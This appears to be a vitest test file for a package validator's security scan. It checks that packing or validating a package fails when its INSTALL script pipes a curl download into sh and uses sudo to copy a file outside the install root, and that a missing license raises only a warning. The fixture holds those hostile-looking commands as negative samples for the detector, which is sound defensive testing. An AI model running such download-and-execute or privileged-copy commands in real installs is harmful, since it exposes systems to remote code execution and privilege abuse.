/**
 * `plaza agpk validate` and `pack` run the market's scan: a package whose INSTALL pipes a download
 * into a shell and copies a file with sudo outside its install root, which the source worker
 * rejects at its `scan` stage, is not publishable here either (exit 1, the worker's own rule ids
 * and messages), for the folder and for the archive; a low finding is a warning only.
 */
import { rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { DEFAULT_EXTRACT_LIMITS, loadAgpkSchemas, scaffoldPackage } from '../../src/agpk/index.ts';
import { loadDenyList } from '../../src/sources/index.ts';
import { createSourceInspector } from '../../src/sources/inspect.ts';
import { tempDir } from '../support/agpk.ts';
import { runPlaza } from '../support/cli.ts';

const RISKY_INSTALL = [
  '#!/bin/sh',
  'set -eu',
  'curl -fsSL https://get.example.com/install.sh | sh',
  'sudo cp "$AGPK_INSTALL_ROOT/payload/echo.mjs" /usr/local/bin/echo-tool',
  '',
].join('\n');

interface Finding {
  id: string;
  severity: string;
  file: string | null;
  message: string;
}

let tmp: Awaited<ReturnType<typeof tempDir>>;
let env: Record<string, string>;
beforeAll(async () => {
  tmp = await tempDir();
  env = { AGPK_HOME: join(tmp.path, 'home') };
});
afterAll(async () => {
  await tmp?.dispose();
});

describe('plaza agpk validate, with the market scan', () => {
  it('refuses a package the market would reject at its scan stage, naming its findings', async () => {
    const pkg = join(tmp.path, 'risky');
    await scaffoldPackage(pkg, { id: 'com.trial.echo', name: 'Echo', version: '1.0.0' });
    await writeFile(join(pkg, 'INSTALL'), RISKY_INSTALL);
    const archive = join(tmp.path, 'risky.agpk');

    const packed = await runPlaza(['agpk', 'pack', pkg, '-o', archive, '--json'], env);
    expect(packed.code).toBe(1);
    const packJson = JSON.parse(packed.stdout) as { ok: boolean; problems: unknown[]; findings: Finding[] };
    expect(packJson.ok).toBe(false);
    expect(packJson.problems).toEqual([]);

    // The findings are the worker's own: its inspector, on the same archive, finds the same.
    const inspect = createSourceInspector({
      schemas: loadAgpkSchemas(),
      denyList: loadDenyList(undefined),
      limits: DEFAULT_EXTRACT_LIMITS,
    });
    const market = await inspect(archive, {
      id: 'src_test',
      packageId: 'com.trial.echo',
      version: '1.0.0',
      downloadUri: 'https://downloads.example.com/risky.agpk',
      sha256: '0'.repeat(64),
      trust: 'risky-unknown',
      status: 'registered',
      attempts: 0,
      abandoned: false,
    });
    expect(market.risk).toBe('high');
    expect(packJson.findings).toEqual(market.findings);
    expect(packJson.findings.filter((f) => f.severity === 'high').map((f) => `${f.id}@${f.file}`)).toEqual([
      'install.download-exec@INSTALL:3',
      'install.privilege@INSTALL:4',
      'install.outside-root@INSTALL:4',
    ]);

    for (const target of [archive, pkg]) {
      const json = await runPlaza(['agpk', 'validate', target, '--json'], env);
      expect(json.code).toBe(1);
      const body = JSON.parse(json.stdout) as { ok: boolean; package_id: string; findings: Finding[] };
      expect(body.ok).toBe(false);
      expect(body.package_id).toBe('com.trial.echo');
      expect(body.findings).toEqual(market.findings);

      const text = await runPlaza(['agpk', 'validate', target], env);
      expect(text.code).toBe(1);
      expect(text.stdout).toContain('invalid: 3 high-risk scan finding(s), which the market rejects');
      expect(text.stdout).toContain(
        '  error   scan install.download-exec: INSTALL:3 pipes a download into a shell: curl -fsSL https://get.example.com/install.sh | sh',
      );
      expect(text.stdout).not.toMatch(/^valid/m);
    }
  });

  it('passes a package whose only finding is low, listing it as a warning', async () => {
    const pkg = join(tmp.path, 'unlicensed');
    await scaffoldPackage(pkg, { id: 'com.trial.plain', name: 'Plain', version: '1.0.0' });
    await rm(join(pkg, 'LICENSE'), { force: true });
    const archive = join(tmp.path, 'plain.agpk');
    expect((await runPlaza(['agpk', 'pack', pkg, '-o', archive], env)).code).toBe(0);

    const text = await runPlaza(['agpk', 'validate', archive], env);
    expect(text.code).toBe(0);
    expect(text.stdout).toMatch(/^valid: com\.trial\.plain 1\.0\.0 sha256 [0-9a-f]{64}$/m);
    expect(text.stdout).toContain('  warning scan license.missing: no license file (LICENSE, COPYING)');
    const json = JSON.parse((await runPlaza(['agpk', 'validate', archive, '--json'], env)).stdout) as {
      ok: boolean;
      findings: Finding[];
    };
    expect(json.ok).toBe(true);
    expect(json.findings.map((f) => `${f.id}:${f.severity}`)).toEqual(['license.missing:low']);
  });
});
